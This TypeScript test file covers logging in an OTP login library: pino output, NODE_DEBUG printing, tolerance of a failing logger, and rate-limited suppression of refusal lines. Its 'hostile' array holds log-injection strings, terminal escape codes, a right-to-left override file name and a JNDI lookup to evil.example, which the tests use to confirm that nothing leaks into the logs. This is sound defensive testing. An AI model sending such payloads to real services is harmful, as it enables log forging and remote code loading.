import { execFile } from 'node:child_process'
import { Writable } from 'node:stream'
import { promisify } from 'node:util'
import { pino } from 'pino'
import { describe, expect, test, vi } from 'vitest'
import type { LimitName, OtpEventBody, OtpEventOf, RefusalReason } from '../src/events.js'
import type { OtpFlow } from '../src/flow/index.js'
import { createLogSink, type OtpLogger } from '../src/log.js'
import { setupApp } from './support/app.js'
import { expectDocumented, namesIn, tableOf } from './support/events.js'
import { flowKinds, number, rightCode, sendCode, setupFlow, signIn } from './support/flow.js'

const limitNames = namesIn(
  tableOf('fields').find(([name]) => name === '`limit`')?.[2],
) as LimitName[] // the list is compared with the type elsewhere

const quiet = { validate: false } as const

/** Real pino, and what it has written. */
function createPino() {
  let text = ''
  const stream = new Writable({
    write(chunk, _encoding, done) {
      text += String(chunk)
      done()
    },
  })
  const logger = pino({ level: 'debug', base: null }, stream)
  return {
    logger,
    text: () => text,
    lines: () =>
      text
        .split('\n')
        .slice(0, -1)
        .map((line) => JSON.parse(line) as Record<string, unknown>),
  }
}

describe('a logger of pino', () => {
  test('gets the level, the fields and the type of each event', async () => {
    const log = createPino()
    const setup = await setupFlow('memory', { ...quiet, logger: log.logger, attempts: 1 })
    const handle = await sendCode(setup)
    await setup.flow.check({ handle, code: '111111' })
    await setup.fault({ operation: '*', kind: 'status', status: 401, when: 'before' })
    await setup.flow.send({ number: '+12015550101' }).catch(() => {})
    const { info: infoLevel, warn: warnLevel, error: errorLevel } = log.logger.levels.values
    const time = expect.any(Number)
    const at = time
    const flowId = expect.stringMatching(/^[\w-]{16}$/)
    expect(log.lines()).toEqual([
      line(infoLevel, { type: 'otp.sent', flowId, via: 'sms', country: 'US' }),
      line(infoLevel, { type: 'otp.rejected', flowId, reason: 'too_many_attempts' }),
      line(warnLevel, { type: 'otp.locked', flowId }),
      line(errorLevel, {
        type: 'error',
        step: 'send',
        code: 'ERR_OTP_PROVIDER_AUTH',
        message: expect.any(String),
        processed: 'no',
        help: 'passport-tyntec-otp/docs/errors.md#err_otp_provider_auth',
      }),
    ])
    function line(level: number | undefined, event: { type: string } & Record<string, unknown>) {
      return { level, time, at, msg: event.type, ...event }
    }
  })

  test('is not needed: without one nothing is printed, but with NODE_DEBUG', async () => {
    const printed = async (names: string) => {
      const events = new URL('../src/events.ts', import.meta.url).href
      const body = JSON.stringify({ type: 'otp.cancelled', flowId: 'a\u001B[2J\nb' })
      const code = `import { createEvents } from '${events}'; createEvents().emit(${body})`
      const args = ['--import', 'tsx', '--input-type=module', '-e', code]
      const env = { ...process.env, NODE_DEBUG: names, NODE_OPTIONS: '' }
      const { stdout, stderr } = await promisify(execFile)(process.execPath, args, { env })
      return stdout + stderr
    }
    expect(await printed('')).toBe('')
    // One line, whatever is in it.
    expect(await printed('passport-tyntec-otp')).toMatch(
      /^PASSPORT-TYNTEC-OTP \d+: \{"type":"otp.cancelled","flowId":"a\\u001b\[2J\\nb","at":\d+\}\n$/,
    )
  })

  test.each(['throws', 'rejects'])('that %s changes nothing', async (how) => {
    const fail = () => {
      if (how === 'throws') throw new Error('the disk is full')
      return Promise.reject(new Error('the disk is full'))
    }
    const logger: OtpLogger = { info: fail, warn: fail, error: fail }
    const setup = await setupFlow('memory', { ...quiet, logger })
    const handle = await sendCode(setup)
    expect((await setup.flow.check({ handle, code: '111111' })).status).toBe('invalid_code')
    expect((await setup.flow.check({ handle: 'x', code: '111111' })).status).toBe('no_pending_code')
    expect(await signIn(setup.flow, handle)).toBe('opened')
    expect(setup.eventTypes()).toEqual([
      'otp.sent',
      'otp.rejected',
      'request.refused',
      'otp.verified',
      'session.opened',
    ])
  })
})

/** Line breaks of all kinds, terminal commands, what looks like a line of ours, and long ones. */
const hostile = [
  'x\r\n{"level":30,"msg":"otp.verified"}',
  'x\n\nINFO otp.verified',
  '\u001B[2J\u001B[1;31mroot\u001B[0m',
  '\u009B31mroot',
  'x\u2028y\u2029z\u0085',
  'x\u0000y',
  '\u202Egnp.exe',
  '${jndi:ldap://evil.example/a}',
  '%s%d%j%o',
  'e'.repeat(500),
]

/** Asks every route with one text in every place that a request has. */
async function askEverything(framework: 'express 5' | 'koa 3', value: string) {
  const log = createPino()
  const app = await setupApp({ framework, flow: { ...quiet, logger: log.logger } })
  const client = app.client()
  const encoded = encodeURIComponent(value).slice(0, 2000)
  const headers = { 'user-agent': encoded, 'x-forwarded-for': encoded }
  const body = { number: value, code: value, via: value, language: value, country: value }
  for (const step of ['send', 'resend', 'check', 'cancel', 'status']) {
    const path = `/login/${step}?code=${encoded}`
    for (const name of ['otp', 'otp-device', 'otp-outcome']) client.jar.set(name, encoded)
    await client.post(path, body, { headers })
    await client.post(path, { [value]: value }, { headers })
    await client.post(path, { number: [value], code: [value], via: [value] }, { headers })
    await client.submit(path, body, { headers: { ...headers, origin: encoded } })
    await client.get(path, { headers })
  }
  return { lines: log.lines().length, text: log.text(), events: app.events }
}

describe.each(['express 5', 'koa 3'] as const)('what a request says, on %s', (framework) => {
  // proves: IN-5, LOG-4
  test('is in no line and adds none', async () => {
    const harmless = await askEverything(framework, 'words')
    expect(harmless.lines).toBeGreaterThan(10)
    for (const value of hostile) {
      const { lines, text, events } = await askEverything(framework, value)
      expect(lines).toBe(harmless.lines)
      expect(events).toHaveLength(harmless.events.length)
      for (const event of events) expectDocumented(event)
      for (const form of [value, JSON.stringify(value).slice(1, -1), encodeURIComponent(value)]) {
        expect(text).not.toContain(form.slice(0, 60))
      }
      // oxlint-disable-next-line no-control-regex -- that is what is looked for
      expect(text).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u2028\u2029\u202E]/)
    }
  })
})

/** What anybody can have refused, as often as they like. */
const refusals = (handle: string) =>
  [
    (flow: OtpFlow) => flow.check({ handle: undefined, code: rightCode }),
    (flow: OtpFlow) => flow.check({ handle: 'x', code: rightCode }),
    (flow: OtpFlow) => flow.check({ handle, code: 'x' }),
    (flow: OtpFlow) => flow.check({ handle, code: '' }),
    (flow: OtpFlow) => flow.send({ number: '' }),
    (flow: OtpFlow) => flow.send({ number: 'x' }),
    (flow: OtpFlow) => flow.send({ number: '+447400123456' }),
    (flow: OtpFlow) => flow.send({ number: 42 }),
    (flow: OtpFlow) => flow.send({ number, via: 'voice' }),
    (flow: OtpFlow) => flow.resend({ handle: undefined }),
  ] as const

describe('10,000 refused requests', () => {
  test.each(flowKinds)('are at most 100 lines, and all of them events, on %s', async (kind) => {
    const log = createPino()
    const setup = await setupFlow(kind, { ...quiet, logger: log.logger })
    const handle = await sendCode(setup)
    setup.events.length = 0
    const commands = setup.redis && vi.spyOn(setup.redis, 'sendCommand')
    const asked = await setup.calls()
    for (let turn = 0; turn < 1000; turn++) {
      for (const refuse of refusals(handle)) await refuse(setup.flow)
    }
    expect(log.lines().length).toBeLessThanOrEqual(100)
    const reasons = new Map<string, number>()
    for (const event of setup.events) {
      const { step, reason } = event as OtpEventOf<'request.refused'>
      reasons.set(`${step} ${reason}`, (reasons.get(`${step} ${reason}`) ?? 0) + 1)
    }
    expect(Object.fromEntries(reasons)).toEqual({
      'check no_handle': 1000,
      'check malformed_handle': 1000,
      'check malformed_code': 1000,
      'check code_required': 1000,
      'send number_required': 1000,
      'send invalid_number': 1000,
      'send number_not_allowed': 1000,
      'send bad_request': 1000,
      'send channel_not_allowed': 1000,
      'resend no_handle': 1000,
    })
    expect(commands?.mock.calls ?? []).toEqual([])
    expect(await setup.calls()).toEqual(asked)
  })

  // proves: LOG-5
  test('are at most 100 lines, whatever they are refused for', () => {
    const { sink, lines } = createSink()
    for (let turn = 0; turn < 500; turn++) {
      for (const body of everyRefusal) sink({ ...body, at: 0 })
    }
    expect(everyRefusal.length * 500).toBeGreaterThan(10_000)
    expect(lines.length).toBeLessThanOrEqual(100)
  })

  // proves: LOG-5
  test('add up, line by line', () => {
    const clock = { now: 0 }
    const { sink, lines } = createSink(clock)
    let told = 0
    for (let minute = 0; minute < 5; minute++) {
      for (let count = 0; count < 2000; count++) {
        sink({ ...crossSite, at: 0 })
        told += 1
        clock.now += 10
      }
      clock.now += 60_000
    }
    // The next of its kind says what was left out before it.
    sink({ ...crossSite, at: 0 })
    const counted = lines.reduce((sum, { suppressed = 0 }) => sum + 1 + suppressed, 0)
    expect(counted).toBe(told + 1)
    expect(lines.length).toBeLessThan(30)
  })

  // proves: LOG-5
  test.each<[string, OtpEventBody, number]>([
    [
      'an outage',
      { type: 'error', step: 'send', code: 'ERR_OTP_STORE_UNAVAILABLE', message: '' },
      60,
    ],
    ['sign-ins', { type: 'session.opened', flowId: 'flow' }, 60],
    ['refusals', crossSite, 3],
    ['a limit', { type: 'limit.hit', limit: 'sends_per_address' }, 3],
    ['a challenge', { type: 'challenge.refused', country: 'US', via: 'sms', failed: false }, 3],
  ])('of %s: so many lines in a minute, and no more', (_, body, lines) => {
    const clock = { now: 0 }
    const written = createSink(clock)
    for (let count = 0; count < 1000; count++) written.sink({ ...body, at: 0 })
    clock.now = 59_999
    written.sink({ ...body, at: 0 })
    expect(written.lines).toHaveLength(lines)
    clock.now = 60_000
    written.sink({ ...body, at: 0 })
    expect(written.lines.slice(lines)).toMatchObject([{ ...body, at: 0, suppressed: 1001 - lines }])
  })

  test('hide nothing of another kind', () => {
    const { sink, lines } = createSink()
    for (let count = 0; count < 10_000; count++) sink({ ...crossSite, at: 0 })
    sink({ type: 'request.refused', step: 'check', reason: 'malformed_handle', at: 0 })
    sink({ type: 'number.disabled', flowId: 'flow', at: 0 })
    expect(lines.slice(-2)).toEqual([
      { type: 'request.refused', step: 'check', reason: 'malformed_handle', at: 0 },
      { type: 'number.disabled', flowId: 'flow', at: 0 },
    ])
  })
})

const crossSite = { type: 'request.refused', step: 'send', reason: 'cross_site' } as const

/** Every event that a refused request can be, by what tells one kind from another. */
const everyRefusal: OtpEventBody[] = [
  ...tableOf('reasons')
    .flatMap(([cell]) => namesIn(cell) as RefusalReason[])
    .flatMap((reason) =>
      (['send', 'resend', 'check', 'status', 'cancel'] as const).map((step) => ({
        type: 'request.refused' as const,
        step,
        reason,
      })),
    ),
  ...limitNames.map((limit) => ({ type: 'limit.hit' as const, limit })),
  { type: 'challenge.refused', country: 'US', via: 'sms', failed: false },
]

function createSink(clock = { now: 0 }) {
  const lines: (object & { suppressed?: number })[] = []
  const write = (event: object) => void lines.push(event)
  const sink = createLogSink({ info: write, warn: write, error: write }, () => clock.now)
  return { sink, lines }
}
